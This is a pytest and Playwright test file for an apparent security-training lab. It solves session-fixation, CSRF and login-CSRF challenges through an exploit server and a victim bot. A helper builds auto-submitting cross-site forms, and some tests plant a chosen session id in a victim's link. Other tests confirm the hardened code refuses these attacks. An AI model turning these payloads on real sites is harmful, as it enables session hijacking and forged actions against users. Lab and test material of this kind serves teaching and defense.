"""The session lab's challenges, solved as a student would: the challenge page, the exploit server, the victim bot.

Each visit of the victim bot drives a real Chromium for a few seconds, so each challenge has
one solving test and one near miss here; what needs no victim is in test_session_challenges.py.
"""

import re
import secrets

import pytest
import requests
from playwright.sync_api import expect

from tests.challenges.student import VISIT_TIMEOUT, challenge, send_the_victim, status, stored_exploit
from tests.oauth_flow import csrf_token

pytestmark = pytest.mark.browser

WHOAMI = "/vulnerable/session/whoami"


def auto_post(live, path, **fields):
    """An exploit page: a form to the app, submitted by script the moment the page loads."""
    inputs = "".join(f'<input name="{name}" value="{value}">' for name, value in fields.items())
    return (
        f'<form method="post" action="{live.app_url}{path}">{inputs}</form><script>document.forms[0].submit()</script>'
    )


def send_to_the_real_code(page):
    page.click("text=Send the same attack to the real code")
    return page.text_content("#real")


# --- session-fixation ----------------------------------------------------------------------


def test_session_fixation_is_solved_by_reading_the_id_planted_in_the_victims_link(live, page):
    planted = f"mallory-{secrets.token_hex(4)}"
    challenge(page, live, "session-fixation")
    send_the_victim(page, f"{live.app_url}/vulnerable/session/?sid={planted}")
    # DevTools, in the student's own browser: the id chosen before alice signed in.
    answer = page.evaluate("url => fetch(url).then(r => r.json())", f"{live.app_url}{WHOAMI}?sid={planted}")
    assert answer == {"sid": planted, "user": "alice"}
    challenge(page, live, "session-fixation")
    assert status(page).startswith("Solved")
    real = send_to_the_real_code(page)
    assert "The real app answered 401: refused" in real and "No valid session" in real


def test_session_fixation_is_solved_from_plain_http_like_curl(live):
    """The whole attack from requests: the victim's form, then whoami with the lab_player cookie."""
    planted = f"mallory-{secrets.token_hex(4)}"
    student = requests.Session()
    page_url = f"{live.app_url}/challenges/session-fixation"
    token = csrf_token(student.get(page_url, timeout=10).text)
    link = f"{live.app_url}/vulnerable/session/?sid={planted}"
    student.post(f"{page_url}/victim", data={"csrf_token": token, "link": link}, timeout=VISIT_TIMEOUT / 1000)
    answer = student.get(f"{live.app_url}{WHOAMI}", params={"sid": planted}, timeout=10)
    assert answer.json() == {"sid": planted, "user": "alice"}
    assert answer.headers["X-Lab-Challenge-Solved"] == "session-fixation"
    assert "Solved" in student.get(page_url, timeout=10).text


# --- session-csrf --------------------------------------------------------------------------


def test_session_csrf_is_solved_by_a_form_on_the_exploit_server_that_posts_her_note(live, page):
    exploit = stored_exploit(page, live, auto_post(live, "/vulnerable/session/note", note="pwned by mallory"))
    challenge(page, live, "session-csrf")
    send_the_victim(page, exploit)
    assert re.search(r"POST \S+/vulnerable/session/note", page.text_content(".victim-hops"))
    assert status(page).startswith("Solved")
    real = send_to_the_real_code(page)
    assert "The real app answered 400: refused" in real and "Cross-site request refused" in real
    page.click("#real a:has-text('check_cross_site_request')")
    expect(page.locator("body")).to_contain_text("def check_cross_site_request")


def test_session_csrf_stays_unsolved_when_the_form_rides_on_the_lax_cookie(live, page):
    exploit = stored_exploit(page, live, auto_post(live, "/vulnerable/session/note?cookie=lax", note="pwned"))
    challenge(page, live, "session-csrf")
    send_the_victim(page, exploit)
    # Her browser posted, but kept the SameSite=Lax cookie home: the twin saw nobody (401).
    assert re.search(r"POST \S+/vulnerable/session/note\?cookie=lax\s*401", page.text_content(".victim-hops"))
    assert status(page).startswith("Not solved")


# --- session-login-csrf --------------------------------------------------------------------


def test_session_login_csrf_is_solved_by_a_form_that_signs_her_in_as_bob(live, page):
    exploit = stored_exploit(
        page, live, auto_post(live, "/vulnerable/session/login", username="bob", password="thebuilder")
    )
    challenge(page, live, "session-login-csrf")
    send_the_victim(page, exploit)
    assert status(page).startswith("Solved")
    real = send_to_the_real_code(page)
    assert "The real app answered 400: refused" in real and "Cross-site request refused" in real


def test_session_login_csrf_stays_unsolved_when_the_form_posts_to_the_real_login(live, page):
    exploit = stored_exploit(page, live, auto_post(live, "/session/login", username="bob", password="thebuilder"))
    challenge(page, live, "session-login-csrf")
    send_the_victim(page, exploit)
    assert re.search(r"POST \S+/session/login\s*400", page.text_content(".victim-hops"))
    assert status(page).startswith("Not solved")
